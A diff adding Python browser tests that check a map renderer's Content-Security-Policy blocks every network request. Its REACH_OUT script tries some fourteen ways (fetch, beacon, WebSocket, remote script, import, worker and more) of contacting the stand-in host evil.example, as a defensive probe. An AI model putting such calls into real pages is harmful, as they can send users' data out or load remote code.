@@ -373,3 +373,121 @@ def test_links_other_than_http_never_reach_the_page_even_from_the_library(
     ]
     assert seen["sentinel"] == ["undefined", "undefined"]
     assert browser.requests == [] and browser.dialogs == []
+
+
+# --- the Content-Security-Policy ----------------------------------------------------------
+
+# What a page could try, were a script to get in: every way of reaching the network.
+REACH_OUT = """
+async () => {
+  var tries = {
+    fetch: function () { return fetch("https://evil.example/fetch"); },
+    xhr: function () {
+      var x = new XMLHttpRequest(); x.open("GET", "https://evil.example/xhr"); x.send();
+    },
+    beacon: function () { navigator.sendBeacon("https://evil.example/beacon", "x"); },
+    websocket: function () { new WebSocket("wss://evil.example/socket"); },
+    eventsource: function () { new EventSource("https://evil.example/events"); },
+    image: function () { new Image().src = "https://evil.example/pixel.png"; },
+    tile: function () { new Image().src = "https://tile.openstreetmap.org/0/0/0.png"; },
+    script: function () {
+      var s = document.createElement("script"); s.src = "https://evil.example/x.js";
+      document.head.appendChild(s);
+    },
+    style: function () {
+      var l = document.createElement("link"); l.rel = "stylesheet";
+      l.href = "https://evil.example/x.css"; document.head.appendChild(l);
+    },
+    font: function () {
+      var f = new FontFace("Evil", "url(https://evil.example/font.woff2)"); f.load();
+      document.fonts.add(f);
+    },
+    frame: function () {
+      var i = document.createElement("iframe"); i.src = "https://evil.example/frame";
+      document.body.appendChild(i);
+    },
+    media: function () {
+      var a = document.createElement("audio"); a.src = "https://evil.example/a.mp3";
+      document.body.appendChild(a); a.load();
+    },
+    worker: function () {
+      new Worker(URL.createObjectURL(new Blob(["fetch('https://evil.example/w')"])));
+    },
+    import: function () { return import("https://evil.example/module.js"); },
+  };
+  for (var name in tries) {
+    try { await Promise.resolve(tries[name]()).catch(function () {}); } catch (e) {}
+  }
+  await new Promise(function (done) { setTimeout(done, 500); });
+  return window.__tmViolations;
+}
+"""
+
+
+def csp_of(html: str) -> dict[str, list[str]]:
+    found = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html)
+    assert found, "the page has no Content-Security-Policy"
+    return {d.split()[0]: d.split()[1:] for d in found.group(1).split(";") if d.strip()}
+
+
+def test_the_policy_names_no_network_origin_without_tiles(
+    invoke: Callable[..., Any], tmp_path: Path
+) -> None:
+    result = invoke("render", "-o", str(tmp_path / "map.html"))
+    assert result.exit_code == 0, result.output
+
+    policy = csp_of((tmp_path / "map.html").read_text(encoding="utf-8"))
+
+    assert policy["default-src"] == ["'none'"]
+    for directive in ("connect-src", "base-uri", "form-action"):
+        assert policy[directive] == ["'none'"], directive
+    assert policy["img-src"] == ["data:"] and policy["font-src"] == ["data:"]
+    assert policy["script-src"] == ["'unsafe-inline'"]
+    assert policy["style-src"] == ["'unsafe-inline'"]
+    assert not {"frame-src", "child-src", "media-src", "object-src", "worker-src"} & set(policy)
+
+
+@pytest.mark.browser
+def test_the_policy_blocks_every_request_a_script_could_make(
+    invoke: Callable[..., Any], browser: Any, tmp_path: Path
+) -> None:
+    result = invoke("render", "-o", str(tmp_path / "map.html"))
+    assert result.exit_code == 0, result.output
+    page = open_recording(browser, tmp_path / "map.html")
+
+    violations = page.evaluate(REACH_OUT)
+    page.close()
+
+    assert {v.split()[0] for v in violations} == {
+        "connect-src", "img-src", "script-src-elem", "style-src-elem", "font-src", "frame-src",
+        "media-src", "worker-src"}, violations
+    assert "img-src https://tile.openstreetmap.org/0/0/0.png" in violations
+    assert browser.requests == []
+
+
+@pytest.mark.browser
+def test_with_tiles_only_the_tile_host_is_reached(
+    invoke: Callable[..., Any], browser: Any, tmp_path: Path
+) -> None:
+    result = invoke("render", "--tiles", "OpenStreetMap", "-o", str(tmp_path / "map.html"))
+    assert result.exit_code == 0, result.output
+    policy = csp_of((tmp_path / "map.html").read_text(encoding="utf-8"))
+    assert policy["img-src"] == ["data:", "https://tile.openstreetmap.org"]
+    assert policy["connect-src"] == ["'none'"]
+
+    page = open_recording(browser, tmp_path / "map.html")
+    violations = page.evaluate(REACH_OUT)
+    page.close()
+
+    assert browser.requests, "the tiles were asked for, so the page should fetch them"
+    assert all(url.startswith("https://tile.openstreetmap.org/") for url in browser.requests)
+    assert "img-src https://evil.example/pixel.png" in violations
+    assert not any("tile.openstreetmap.org" in v for v in violations), violations
+
+
+def test_unknown_tiles_are_a_usage_error(invoke: Callable[..., Any], tmp_path: Path) -> None:
+    result = invoke("render", "--tiles", "nonsense", "-o", str(tmp_path / "map.html"))
+
+    assert result.exit_code == 2
+    assert '--tiles: "nonsense" is not a tile set troopmap knows.' in result.stderr
+    assert not (tmp_path / "map.html").exists()
